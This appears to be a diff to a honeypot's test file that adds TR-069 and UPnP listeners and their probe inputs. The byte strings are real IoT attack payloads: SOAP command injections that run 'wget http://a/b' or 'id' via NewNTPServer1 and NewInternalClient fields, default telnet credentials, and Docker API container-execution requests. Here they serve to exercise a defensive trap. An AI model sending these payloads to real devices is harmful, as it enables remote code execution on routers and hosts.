@@ -63,6 +63,14 @@ OPENINGS: dict[str, tuple[bytes, ...]] = {
     ),
     "ssh": tuple(ssh_client.opening(Table(load("ssh")(visit(host=HOST))).open())),
     "telnet": (b"\xff\xfd\x01", b"root\r\n", b"xc3511\r\n", b"sh\n", b"echo -e '\\x41", b"'\n", b"wget http://a/b\n"),
+    "tr069": (
+        b"POST /UD/act?1 HTTP/1.1\r\nSOAPAction: a#SetNTPServers\r\nContent-Length: 48\r\n\r\n",
+        b"<NewNTPServer1>`wget", b" http://a/b`</NewNTPServer1>", b"GET /tr069 HTTP/1.1\r\n\r\n",
+    ),
+    "upnp": (
+        b"POST /picsdesc.xml HTTP/1.1\r\nSOAPAction: a#AddPortMapping\r\nContent-Length: 56\r\n\r\n",
+        b"<NewInternalClient>`wget", b" http://a/b`</NewInternalClient>", b"GET /wanipcn.xml HTTP/1.1\r\n\r\n",
+    ),
 }  # fmt: skip
 # Of what a test sends at random, much is what these rooms listen to.
 WORDS = [
@@ -78,12 +86,15 @@ WORDS = [
     b'{"Image":"alpine","Cmd":["wget","http://a/b"]}', b"POST /run/%s?cmd=wget+a/b HTTP/1.1\r\nHost: a\r\n\r\n" % PLACE,
     b"GET /exec/%s?command=sh&tty=1 HTTP/1.1\r\nHost: a\r\nSec-WebSocket-Key: a\r\n\r\n" % PLACE,
     b"\x82\x85\0\0\0\0\0id\r\n", b"set a 0 0 5\r\n", b"stats\r\n", b"\0\1\0\0\0\1\0\0stats\r\n",
+    b"POST /picsdesc.xml HTTP/1.1\r\nSOAPAction: a#AddPortMapping\r\nContent-Length: 25\r\n\r\n",
+    b"<NewInternalClient>`id`</",
+    b"M-SEARCH * HTTP/1.1\r\nST:ssdp:all\r\n\r\n", b"SUBSCRIBE /a HTTP/1.1\r\nCallback: <http://a/>\r\n\r\n",
     b"\x80\x0b" + bytes(22), b"\0\1\0\0\0\1\0\0set a 0 0 1\r\n1\r\n",
 ]  # fmt: skip
 
 FRONT = "front"  # no room of its own: telnet and HTTP on one port
 NAMES = (*ROOMS, FRONT)
-SERVED = [(name, "tcp") for name in NAMES] + [("catchall", "udp"), ("memcached", "udp")]
+SERVED = [(name, "tcp") for name in NAMES] + [("catchall", "udp"), ("memcached", "udp"), ("upnp", "udp")]
 names = pytest.mark.parametrize("name", NAMES)
 bounded = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
 
